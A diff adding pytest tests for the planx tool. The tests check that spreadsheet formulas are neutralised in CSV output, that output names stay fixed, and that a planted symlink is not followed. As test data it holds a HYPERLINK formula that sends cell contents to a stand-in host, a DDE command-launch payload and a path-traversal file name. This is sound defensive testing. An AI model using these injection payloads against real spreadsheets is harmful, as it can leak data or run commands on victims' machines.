@@ -1,0 +1,64 @@
+"""Output hygiene: formulas neutralised in CSV only, fixed output names, nothing written outside OUT."""
+from __future__ import annotations
+
+import csv
+import sqlite3
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+import planx
+from load.safety import OutputError, neutralise_formula
+
+HOSTILE = ["=HYPERLINK(\"http://evil/\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1"]
+OUTPUTS = {"documents.csv", "actions.csv", "milestones.csv", "ratings.csv", "indicators.csv", "leftovers.csv",
+           "plans.sqlite", "plans.sqlite-wal", "plans.sqlite-shm", "datapackage.json", "metadata.json", "report.html"}
+
+
+@pytest.mark.parametrize("value", ["\tplain", "\rplain", " =1", "\n=1", "\t\t@x", "\r\n+x"])
+def test_tab_and_cr_variants_are_neutralised(value):
+    assert neutralise_formula(value) == "'" + value
+
+
+def _plan(folder: Path) -> Path:
+    rows = ["Improvement plan ../../escape.csv", "Action\tLead\tTimescale",
+            *(f"{v} the policy\t{v}\tMay 2016" for v in HOSTILE)]
+    path = folder / "plan.txt"
+    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
+    return path
+
+
+def test_csv_neutralises_formulas_and_sqlite_keeps_the_text(tmp_path):
+    out = tmp_path / "out"
+    planx.convert(_plan(tmp_path), out=out)
+    with open(out / "actions.csv", newline="", encoding="utf-8") as fh:
+        leads = [r["lead"] for r in csv.DictReader(fh)]
+    assert leads and all(v.startswith("'") for v in leads if v[:1] in "=+-@＝")
+    stored = {r[0] for r in sqlite3.connect(out / "plans.sqlite").execute("SELECT lead FROM actions")}
+    assert "=HYPERLINK(\"http://evil/\"&A1)" in stored and "@SUM(A1:A9)" in stored
+
+
+def test_output_names_are_fixed_whatever_the_documents_say(tmp_path):
+    out = tmp_path / "out"
+    planx.convert(_plan(tmp_path), out=out)
+    assert {p.name for p in out.iterdir()} <= OUTPUTS
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "plan.txt"]
+
+
+def test_a_link_planted_in_the_output_folder_is_not_followed(tmp_path):
+    out, victim = tmp_path / "out", tmp_path / "victim.txt"
+    out.mkdir()
+    victim.write_text("keep me", encoding="utf-8")
+    (out / "actions.csv").symlink_to(victim)
+    with pytest.raises(OutputError):
+        planx.convert(_plan(tmp_path), out=out)
+    assert victim.read_text(encoding="utf-8") == "keep me"
+    (out / "actions.csv").unlink()
+    (out / "plans.sqlite").unlink(missing_ok=True)
+    (out / "plans.sqlite").symlink_to(victim)
+    proc = subprocess.run([sys.executable, "-m", "planx", "convert", str(_plan(tmp_path)), "-o", str(out),
+                           "--no-progress"], capture_output=True, text=True)
+    assert proc.returncode == 2 and "refusing to write outside" in proc.stderr and "Traceback" not in proc.stderr
+    assert victim.read_text(encoding="utf-8") == "keep me"
